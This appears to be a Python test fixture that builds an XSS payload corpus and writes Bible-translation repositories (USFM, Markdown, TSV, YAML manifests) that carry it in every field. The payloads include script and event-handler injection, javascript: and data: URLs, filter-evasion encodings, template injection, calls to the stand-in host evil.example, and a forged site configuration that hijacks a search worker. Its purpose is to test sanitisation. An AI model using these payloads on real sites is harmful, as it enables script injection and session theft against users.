"""The XSS corpus: classic payloads, and repositories of every content type carrying them.

Every payload tries to run :data:`JS` (a dialog, and the ``window.__xss`` canary) or to make the
browser ask another host for something (``evil.example``). ``TEMPLATE_MARK`` checks that no
repository text is ever read as a Jinja template (``TPL{{7*7}}`` must never become ``TPL49``).
Images from the author's own http(s) URLs are content, not attacks (OBS pictures come from a
CDN), so no payload is a plain remote image.
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import yaml

#: What a payload tries to run: a dialog first, then the canary (top: also from an iframe).
JS = "alert(1),top.__xss=1"
TEMPLATE_MARK = "TPL49"
EVIL = "http://evil.example"

PAYLOADS = [
    f"<script>{JS}</script>",
    f'<script src="data:text/javascript,{JS}"></script>',
    f"<script src={EVIL}/x.js></script>",
    f'<img src=x onerror="{JS}">',
    f"<img src=x onerror={JS}>",
    f'<img src="x" alt="x" onerror="{JS}"/>',
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a xlink:href="javascript:{JS}"><text y="20">svg link</text></a></svg>',
    f"<body onload={JS}>",
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<a href="javascript:{JS}">js link</a>',
    f'<a href="JaVaScRiPt:{JS}">mixed case</a>',
    f'<a href="&#106;avascript:{JS}">entity</a>',
    f'<a href="java&#x09;script:{JS}">tab</a>',
    f'<a href=" javascript:{JS}">space</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    f'<a href="data:text/html,<script>{JS}</script>">data link</a>',
    f"[md link](javascript:{JS})",
    "[md data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![md img](javascript:{JS})",
    f'<a href="http://x.example/" onclick="{JS}">onclick</a>',
    f'<style>@import "{EVIL}/x.css"; body {{ background: url({EVIL}/bg) }}</style>',
    f'<div style="background:url({EVIL}/bg)">styled</div>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<base href="{EVIL}/">',
    f'<form action="javascript:{JS}"><button>go</button></form>',
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}><summary>d</summary></details>",
    f"<video><source onerror={JS}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<x onclick={JS} onmouseover={JS}>custom element</x>",
    f'"><script>{JS}</script>',
    f"' onmouseover='{JS}' x='",
    f'" onmouseover="{JS}" x="',
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"<scr\u0000ipt>{JS}</scr\u0000ipt>",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"\u202egnp.exe<img src=x onerror={JS}>",
    f'<a href="java\u200bscript:{JS}">zero width</a>',
    "TPL{{7*7}} {% raw %}TPL{% endraw %} {{ config.__class__ }} {% include 'base.html' %}",
    f'<div id="__config">{{"base":"{EVIL}/","features":[],"search":"{EVIL}/w.js",'
    '"translations":{}}</div>',
    '<span id="tx-config">{"commit":"x","status":"started"}</span>',
    "[forged placeholder](#tx-link-0000000000000000-0) <a href=\"#tx-link-0\">forged</a>",
    f'[[rc://en/tw/dict/bible/kt/"><script>{JS}</script>]]',
    f'rc://en/ta/man/translate/"onmouseover="{JS}',
]

#: A search worker that answers every query with a result whose title runs :data:`JS` (Material
#: puts result titles into the page as HTML).
_FORGED_WORKER = (
    "const r={type:3,data:{items:[[{location:'x',title:'<img src=x onerror=\"" + JS + "\">',"
    "text:'',score:1,terms:{}}]],total:1}};postMessage({type:1});postMessage(r);"
    "onmessage=()=>{postMessage({type:1});postMessage(r)}")
#: The theme's configuration as an attacker would forge it: Material reads the first element with
#: id ``__config`` and starts its search worker from ``search`` (here a ``data:`` URL).
FORGED_CONFIG = json.dumps({
    "base": ".", "features": ["search.highlight"], "translations": {},
    "search": "data:text/javascript," + quote(_FORGED_WORKER), "version": None,
}, separators=(",", ":"))
#: Ids the theme (``__config``) and our scripts (``tx-config``) read configuration from, and one
#: of the namespace content ids are moved into: row IDs, slugs, file names and headings
#: named so carry :data:`FORGED_CONFIG` in every content type that makes ids from them.
FORGED_IDS = ("__config", "tx-config", "user-content-__config")

#: Payloads that are safe as file names (no "/", not too long for a file system).
FILE_NAMES = [p.replace("/", "\u2215").replace("\u0000", "")[:80] for p in PAYLOADS]


def one_line(text: str) -> str:
    """A payload fit for one TSV cell or one USFM line."""
    return " ".join(text.replace("\t", " ").split("\n"))


def _manifest(folder: Path, n: int, subject: str, identifier: str, projects: list[dict],
              fmt: str) -> None:
    """A manifest whose fields carry payloads (a different one in each repository)."""
    pick = lambda k: PAYLOADS[(n * 7 + k) % len(PAYLOADS)]  # noqa: E731
    data = {
        "dublin_core": {
            "conformsto": "rc0.2", "format": fmt, "identifier": identifier,
            "title": f"{pick(0)} {pick(1)}", "subject": subject, "type": "bundle",
            "version": pick(2), "description": pick(3), "rights": pick(4), "creator": pick(5),
            "publisher": pick(6),
            "language": {"identifier": f'en"><img src=x onerror={JS}>', "title": pick(7),
                         "direction": f'rtl" onmouseover="{JS}'},
            "relation": [pick(8)], "source": [{"identifier": pick(9), "language": pick(10),
                                               "version": pick(11)}],
            "contributor": [pick(12)],
        },
        "checking": {"checking_entity": [pick(13)], "checking_level": pick(14)},
        "projects": projects,
    }
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "manifest.yaml").write_text(yaml.safe_dump(data, allow_unicode=True),
                                          encoding="utf-8")


def _write(folder: Path, path: str, text: str) -> None:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    (folder / path).write_text(text, encoding="utf-8")


def bible(folder: Path, n: int) -> Path:
    """USFM: text, headings, notes, \\w attributes, \\fig sources and captions, labels."""
    verses = []
    for i, p in enumerate(PAYLOADS, 1):
        line = one_line(p)
        verses.append(
            f"\\v {i} {line} \\w {line}|lemma=\"{line}\" x-morph=\"{line}\"\\w* "
            f"\\w word|{line}\\w* \\nd {line}\\nd*\\f + \\fr 1:{i} \\ft {line}\\f*"
            f"\\x - \\xo 1:{i} \\xt {line}\\x*")
        verses.append(f"\\fig {line}|src=\"{line}\" alt=\"{line}\" ref=\"{line}\"\\fig*")
        verses.append(f'\\fig cap|src="x.png\\" onerror=\\"{JS}" size="col"\\fig*')
        verses.append(f"\\fig {line}|javascript:{JS}|col|||{line}|1:{i}\\fig*")
        verses.append(f"\\s1 {line}\n\\p")
    body = "\n".join(verses)
    books = {
        "57-TIT.usfm": ("TIT", one_line(PAYLOADS[0])),
        "65-3JN.usfm": ("3JN", one_line(PAYLOADS[40])),
        "99-XXX.usfm": (f'"><img src=x onerror={JS}>', one_line(PAYLOADS[42])),
    }
    projects = []
    for name, (code, title) in books.items():
        _write(folder, name,
               f"\\id {code} {title}\n\\h {title}\n\\toc1 {title}\n\\toc2 {title}\n"
               f"\\toc3 {title}\n\\mt {title}\n\\cl {one_line(PAYLOADS[39])}\n"
               f"\\c 1\n\\cp {one_line(PAYLOADS[41])}\n\\ca {one_line(PAYLOADS[3])}\\ca*\n"
               f"\\p\n{body}\n\\c 2\"><b>2\n\\p\n\\v 1 \\vp {one_line(PAYLOADS[4])}\\vp* v\n"
               f"\\esb \\cat {one_line(PAYLOADS[41])}\\cat*\n\\p sidebar\n\\esbe\n")
        projects.append({"identifier": code.lower() if len(code) == 3 else "xxx",
                         "title": one_line(PAYLOADS[len(projects) + 5]), "path": f"./{name}",
                         "sort": len(projects), "categories": ["bible-nt"]})
    _manifest(folder, n, "Bible", "ult", projects, "text/usfm")
    return folder


def _markdown_body() -> str:
    return "\n\n".join(f"## {p}\n\n{p}\n\n- {p}\n\n> {p}\n\n| {one_line(p)} | b |\n|---|---|\n"
                       f"| {one_line(p)} | c |" for p in PAYLOADS)


def obs(folder: Path, n: int, image: str) -> Path:
    """Stories: title, frames (picture + text), reference; front and back matter."""
    for story in (1, 2):
        # "Text:" first: a frame line starting with "![…](…)" is the frame's picture, and one
        # that is no http(s) URL is replaced by the standard picture on cdn.door43.org
        frames = "\n\n".join(f"![OBS Image]({image})\n\nText: {p}" for p in PAYLOADS)
        _write(folder, f"content/{story:02d}.md",
               f"# {PAYLOADS[story + 10]}\n\n{frames}\n\n_{one_line(PAYLOADS[story])}_\n")
    _write(folder, "content/front/title.md", PAYLOADS[20])
    _write(folder, "content/front/intro.md", _markdown_body())
    _write(folder, "content/back/intro.md", f"# {PAYLOADS[21]}\n\n{_markdown_body()}")
    _manifest(folder, n, "Open Bible Stories", "obs",
              [{"identifier": "obs", "path": "./content", "title": PAYLOADS[22]}],
              "text/markdown")
    return folder


def _tsv(header: list[str], rows: list[list[str]]) -> str:
    return "\n".join("\t".join(r) for r in [header, *rows]) + "\n"


def _id(i: int) -> str:
    return f"x{i:03d}"


def tn(folder: Path, n: int) -> Path:
    """tN TSV7: every column of a row carries the payload, IDs included (a few)."""
    rows = []
    for i, p in enumerate(PAYLOADS, 1):
        line = one_line(p)
        rows.append([f"1:{i}", line if i % 9 == 0 else _id(i), line, line, line, line,
                     f"{line}\\n\\n{line}<br>{line}"])
        rows.append([f"1:{i}", _id(i + 500), "", f"rc://*/ta/man/translate/{line}", "", "1",
                     f"[[rc://*/ta/man/translate/{line}]] [x](../01/{i:02d}/{line})"])
    rows.append(["front:intro", "abcd", "", "", "", "", _markdown_body().replace("\n", "\\n")])
    rows.append([f"{one_line(PAYLOADS[0])}:1", "zzzz", "", "", "", "", "bad reference"])
    rows += [["1:1", forged, "", "", "", "", FORGED_CONFIG] for forged in FORGED_IDS]
    rows.append(["1:2", "x999", "", "", "", "",
                 " ".join(f"[{f}](rc://*/tn/help/tit/01/01/{f}) [{f}](../01/01/{f})"
                          for f in FORGED_IDS)])
    _write(folder, "tn_TIT.tsv",
           _tsv(["Reference", "ID", "Tags", "SupportReference", "Quote", "Occurrence", "Note"],
                rows))
    _manifest(folder, n, "TSV Translation Notes", "tn",
              [{"identifier": "tit", "path": "./tn_TIT.tsv", "title": PAYLOADS[30]}],
              "text/tsv")
    return folder


def tn9(folder: Path, n: int) -> Path:
    """tN in the nine columns of the old TSV (Book, Chapter, Verse, ID … OccurrenceNote)."""
    rows = [["TIT", "1", str(i), _id(i), "", one_line(p), "1", one_line(p), one_line(p)]
            for i, p in enumerate(PAYLOADS, 1)]
    rows += [["TIT", "1", "1", forged, "", "", "", "", FORGED_CONFIG] for forged in FORGED_IDS]
    _write(folder, "en_tn_57-TIT.tsv", _tsv(["Book", "Chapter", "Verse", "ID",
                                             "SupportReference", "OrigQuote", "Occurrence",
                                             "GLQuote", "OccurrenceNote"], rows))
    _manifest(folder, n, "Translation Notes", "tn",
              [{"identifier": "tit", "path": "./en_tn_57-TIT.tsv", "title": PAYLOADS[29]}],
              "text/tsv")
    return folder


def tq(folder: Path, n: int) -> Path:
    rows = [[f"1:{i}", _id(i), one_line(p), one_line(p), "1", one_line(p), one_line(p)]
            for i, p in enumerate(PAYLOADS, 1)]
    rows += [["1:1", forged, "", "", "", FORGED_CONFIG, ""] for forged in FORGED_IDS]
    _write(folder, "tq_TIT.tsv", _tsv(["Reference", "ID", "Tags", "Quote", "Occurrence",
                                       "Question", "Response"], rows))
    _manifest(folder, n, "TSV Translation Questions", "tq",
              [{"identifier": "tit", "path": "./tq_TIT.tsv", "title": PAYLOADS[31]}],
              "text/tsv")
    return folder


def twl(folder: Path, n: int) -> Path:
    rows = []
    for i, p in enumerate(PAYLOADS, 1):
        line = one_line(p)
        rows.append([f"1:{i}", _id(i), line, line, line, "rc://*/tw/dict/bible/kt/god"])
        rows.append([f"1:{i}", _id(i + 500), "", "w", "1", f"rc://*/tw/dict/bible/kt/{line}"])
        rows.append([f"1:{i}", _id(i + 900), "", "w", "1", line])
    rows += [["1:1", forged, "", FORGED_CONFIG, "1", "rc://*/tw/dict/bible/kt/god"]
             for forged in FORGED_IDS]
    _write(folder, "twl_TIT.tsv", _tsv(["Reference", "ID", "Tags", "OrigWords", "Occurrence",
                                        "TWLink"], rows))
    _manifest(folder, n, "TSV Translation Words Links", "twl",
              [{"identifier": "tit", "path": "./twl_TIT.tsv", "title": PAYLOADS[32]}],
              "text/tsv")
    return folder


def tw(folder: Path, n: int) -> Path:
    """Articles named by payloads (file names are ids and, without a heading, titles)."""
    for i, (name, p) in enumerate(zip(FILE_NAMES, PAYLOADS, strict=True)):
        text = (f"# {p}\n\n## Definition:\n\n{p}\n\n[see](../kt/{name}.md) "
                f"[[rc://en/tw/dict/bible/kt/{name}]]" if i % 2 else f"{p}\n")
        _write(folder, f"bible/kt/{name}.md", text)
    _write(folder, "bible/names/god.md", f"# God\n\n{_markdown_body()}")
    for forged in FORGED_IDS:
        _write(folder, f"bible/kt/{forged}.md", f"# {FORGED_CONFIG}\n\n{FORGED_CONFIG}\n")
    _manifest(folder, n, "Translation Words", "tw",
              [{"identifier": "bible", "path": "./bible", "title": PAYLOADS[33]}],
              "text/markdown")
    return folder


def ta(folder: Path, n: int) -> Path:
    """A manual whose identifier, ToC titles, config links and articles carry payloads."""
    slugs = [f"art{i}" for i in range(len(PAYLOADS))]
    manual = "translate"
    for forged in FORGED_IDS:
        _write(folder, f"{manual}/{forged}/title.md", FORGED_CONFIG)
        _write(folder, f"{manual}/{forged}/01.md", f"{FORGED_CONFIG}\n\n## {forged}\n")
    toc = {"title": PAYLOADS[34], "sections": [
        {"title": p, "link": slug} for p, slug in zip(PAYLOADS, slugs, strict=True)]
        + [{"title": PAYLOADS[35], "link": f'"><script>{JS}</script>'},
           {"title": PAYLOADS[36], "sections": [{"title": PAYLOADS[37], "link": "art0"}]}]
        + [{"title": FORGED_CONFIG, "link": forged} for forged in FORGED_IDS]}
    config = {slug: {"dependencies": [slugs[(i + 1) % len(slugs)], p],
                     "recommended": [p, "art0"]}
              for i, (p, slug) in enumerate(zip(PAYLOADS, slugs, strict=True))}
    _write(folder, f"{manual}/toc.yaml", yaml.safe_dump(toc, allow_unicode=True))
    _write(folder, f"{manual}/config.yaml", yaml.safe_dump(config, allow_unicode=True))
    for p, slug in zip(PAYLOADS, slugs, strict=True):
        _write(folder, f"{manual}/{slug}/title.md", p)
        _write(folder, f"{manual}/{slug}/sub-title.md", p)
        _write(folder, f"{manual}/{slug}/01.md", f"# {p}\n\n{p}\n\n[x](../art0/01.md)\n")
    _manifest(folder, n, "Translation Academy", "ta",
              [{"identifier": manual, "path": f"./{manual}", "title": PAYLOADS[38], "sort": 2},
               {"identifier": f'../x"><script>{JS}</script>', "path": f"./{manual}",
                "title": PAYLOADS[39], "sort": 3}], "text/markdown")
    return folder


def markdown(folder: Path, n: int) -> Path:
    """Generic Markdown: files named by payloads (titles from names), and one with them all."""
    for name in FILE_NAMES[::9]:
        _write(folder, f"{name}.md", "No heading: the file name is the title.\n")
    _write(folder, "all.md", f"# {PAYLOADS[43]}\n\n{_markdown_body()}")
    _write(folder, "forged.md", "".join(f"## {forged}\n\n{FORGED_CONFIG}\n\n"
                                        f'<p id="{forged}">{FORGED_CONFIG}</p>\n\n'
                                        for forged in FORGED_IDS))
    for forged in FORGED_IDS:
        _write(folder, f"chunks/{forged}.md", f"{FORGED_CONFIG}\n")
    _write(folder, "chunks/other.md", "Another chunk of the same page.\n")
    _manifest(folder, n, "Generic Markdown", "md", [], "text/markdown")
    return folder


def obs_tn(folder: Path, n: int) -> Path:
    """OBS translation notes in TSV (a renderer of their own)."""
    rows = []
    for i, p in enumerate(PAYLOADS, 1):
        line = one_line(p)
        rows.append([f"1:{1 + i % 15}", _id(i), line, line, line, "1", line])
        rows.append([f"2:{1 + i % 11}", _id(i + 500), "", f"rc://*/ta/man/translate/{line}",
                     "", "", f"{line}\\n{line}"])
    rows.append(["front:intro", "abcd", "", "", "", "", _markdown_body().replace("\n", "\\n")])
    rows += [["1:1", forged, "", "", "", "", FORGED_CONFIG] for forged in FORGED_IDS]
    _write(folder, "tn_OBS.tsv", _tsv(["Reference", "ID", "Tags", "SupportReference", "Quote",
                                       "Occurrence", "Note"], rows))
    _manifest(folder, n, "TSV OBS Translation Notes", "obs-tn",
              [{"identifier": "obs", "path": "./tn_OBS.tsv", "title": PAYLOADS[44]}],
              "text/tsv")
    return folder


def study_notes(folder: Path, n: int) -> Path:
    tn(folder, n)
    data = yaml.safe_load((folder / "manifest.yaml").read_text(encoding="utf-8"))
    data["dublin_core"].update(subject="TSV Study Notes", identifier="sn")
    (folder / "manifest.yaml").write_text(yaml.safe_dump(data, allow_unicode=True),
                                          encoding="utf-8")
    return folder


def content_types(image: str) -> dict[str, object]:
    """Content type → a function writing its repository into a folder (number n)."""
    return {
        "bible": bible, "obs": lambda f, n: obs(f, n, image), "tn": tn, "tn9": tn9, "tq": tq,
        "twl": twl,
        "tw": tw, "ta": ta, "markdown": markdown, "obs-tn": obs_tn, "sn": study_notes,
    }

